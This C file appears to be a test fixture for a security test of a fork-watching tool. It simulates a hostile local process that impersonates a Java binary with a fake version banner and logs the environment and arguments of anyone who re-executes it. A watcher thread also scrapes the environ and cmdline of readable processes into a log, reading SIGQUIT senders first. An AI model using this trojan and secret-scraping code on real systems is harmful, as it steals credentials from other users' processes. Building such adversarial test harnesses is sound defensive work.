/*
 * hostile-forker: what a hostile local user would start beside forkwatch
 * (test/security/hostile-target.test.ts). Started under an unprivileged uid
 * with a cmdline naming jenkins.war, it forks a child that really deadlocks
 * before exec (its pthread_atfork child handler takes a mutex another thread
 * holds: the deadlocker.c shape), and it tries to get its hands on
 * forkwatch's secrets two ways:
 *
 * 1. Any execution of this binary other than its original start (the test
 *    starts it with HOSTILE_ORIGINAL_START=1 in its environment) appends who
 *    ran it (uid, euid, gid, argv, the full environment) to
 *    <dir of the binary>/executions.log, then prints a plausible
 *    `java -version` banner and exits 0 (as a trojan would).
 * 2. A watcher thread reads, every few ms, the environ and cmdline of every
 *    process it is allowed to read (as its uid: its own processes, such as a
 *    jcmd forkwatch runs as the target's user), and appends each new one
 *    (pid, environ, cmdline) to <dir>/seen.log. The process that knocks with
 *    SIGQUIT (jcmd's attach) is read first, while it waits for an answer.
 *
 * Usage: hostile-forker [anything, e.g. -jar /srv/jenkins.war --id X]
 * Prints "hung <pid>" then "ready", then waits until killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

extern char **environ;

static pthread_mutex_t held_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_mutex_t ready_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t ready_cond = PTHREAD_COND_INITIALIZER;
static int holder_ready = 0;
static volatile int arm_deadlock = 0;
static char dir[PATH_MAX];

__attribute__((noinline)) static void take_held_lock_in_child(void) {
    pthread_mutex_lock(&held_lock); /* never returns: its owner does not exist here */
}

__attribute__((noinline)) static void atfork_child_handler(void) {
    if (arm_deadlock) take_held_lock_in_child();
}

static void *lock_holder(void *arg) {
    (void)arg;
    pthread_mutex_lock(&held_lock);
    pthread_mutex_lock(&ready_lock);
    holder_ready = 1;
    pthread_cond_signal(&ready_cond);
    pthread_mutex_unlock(&ready_lock);
    for (;;) pause();
    return NULL;
}

static void find_own_dir(void) {
    ssize_t n = readlink("/proc/self/exe", dir, sizeof dir - 1);
    if (n <= 0) {
        strcpy(dir, "/tmp");
        return;
    }
    dir[n] = '\0';
    char *slash = strrchr(dir, '/');
    if (slash) *slash = '\0';
}

/* Not our original start: record who ran us, with what, and play java. */
static void record_execution(int argc, char **argv) {
    char path[PATH_MAX + 32];
    snprintf(path, sizeof path, "%s/executions.log", dir);
    FILE *f = fopen(path, "a");
    if (f) {
        fprintf(f, "uid=%d euid=%d gid=%d\n", (int)getuid(), (int)geteuid(), (int)getgid());
        for (int i = 0; i < argc; i++) fprintf(f, "argv[%d]=%s\n", i, argv[i]);
        for (char **e = environ; *e; e++) fprintf(f, "env %s\n", *e);
        fprintf(f, "--\n");
        fclose(f);
    }
    fprintf(stderr, "openjdk version \"17.0.99\" 2099-01-01\nOpenJDK Runtime Environment (build 17.0.99+1-trojan)\n");
}

/* Append file's bytes (NULs as spaces) to out, up to max. */
static void dump_file(FILE *out, const char *path, size_t max) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    char buf[65536];
    ssize_t n = read(fd, buf, max < sizeof buf ? max : sizeof buf);
    close(fd);
    for (ssize_t i = 0; i < n; i++) fputc(buf[i] ? buf[i] : ' ', out);
    fputc('\n', out);
}

#define MAX_SEEN 65536
static int seen[MAX_SEEN];
static int nseen = 0;

static int was_seen(int pid) {
    for (int i = 0; i < nseen; i++)
        if (seen[i] == pid) return 1;
    if (nseen < MAX_SEEN) seen[nseen++] = pid;
    return 0;
}

/* The pid that last knocked with SIGQUIT (jcmd's attach does): read first, while it waits for the attach. */
static volatile sig_atomic_t knocked = 0;

static void on_sigquit(int sig, siginfo_t *info, void *ctx) {
    (void)sig;
    (void)ctx;
    knocked = info->si_pid;
}

static void record_if_readable(const char *path, int pid);

static void *watcher(void *arg) {
    (void)arg;
    char path[PATH_MAX + 32];
    snprintf(path, sizeof path, "%s/seen.log", dir);
    int me = (int)getpid();
    for (;;) {
        int k = knocked;
        if (k > 0) {
            knocked = 0;
            record_if_readable(path, k);
        }
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me) continue;
            record_if_readable(path, pid);
        }
        if (d) closedir(d);
        usleep(3000);
    }
    return NULL;
}

/* Appends pid's environ and cmdline to path the first time this process may read them. */
static void record_if_readable(const char *path, int pid) {
    char env[64];
    snprintf(env, sizeof env, "/proc/%d/environ", pid);
    if (access(env, R_OK) != 0) return;
    int fd = open(env, O_RDONLY);
    if (fd < 0) return;
    char probe[1];
    ssize_t ok = read(fd, probe, 1);
    close(fd);
    if (ok < 0) return; /* not ours to read */
    if (was_seen(pid)) return;
    FILE *f = fopen(path, "a");
    if (!f) return;
    fprintf(f, "pid %d environ: ", pid);
    dump_file(f, env, 65536);
    snprintf(env, sizeof env, "/proc/%d/cmdline", pid);
    fprintf(f, "pid %d cmdline: ", pid);
    dump_file(f, env, 4096);
    fclose(f);
}

int main(int argc, char **argv) {
    find_own_dir();
    const char *original = getenv("HOSTILE_ORIGINAL_START");
    if (!original || strcmp(original, "1") != 0) {
        record_execution(argc, argv);
        return 0;
    }
    unsetenv("HOSTILE_ORIGINAL_START"); /* a re-exec of /proc/<us>/exe must not look original */
    setvbuf(stdout, NULL, _IOLBF, 0);
    /* jcmd's attach knocks with SIGQUIT: not a JVM, we do not answer, but the watcher reads the knocker first */
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_sigquit;
    sa.sa_flags = SA_SIGINFO | SA_RESTART;
    sigemptyset(&sa.sa_mask);
    sigaction(SIGQUIT, &sa, NULL);
    pthread_atfork(NULL, NULL, atfork_child_handler);

    pthread_t t;
    pthread_create(&t, NULL, lock_holder, NULL);
    pthread_mutex_lock(&ready_lock);
    while (!holder_ready) pthread_cond_wait(&ready_cond, &ready_lock);
    pthread_mutex_unlock(&ready_lock);
    pthread_create(&t, NULL, watcher, NULL);

    arm_deadlock = 1;
    pid_t pid = fork();
    if (pid == 0) {
        execlp("true", "true", (char *)NULL); /* only reached if the handler did not block */
        _exit(127);
    }
    arm_deadlock = 0;
    printf("hung %d\nready\n", (int)pid);
    for (;;) pause();
    return 0;
}
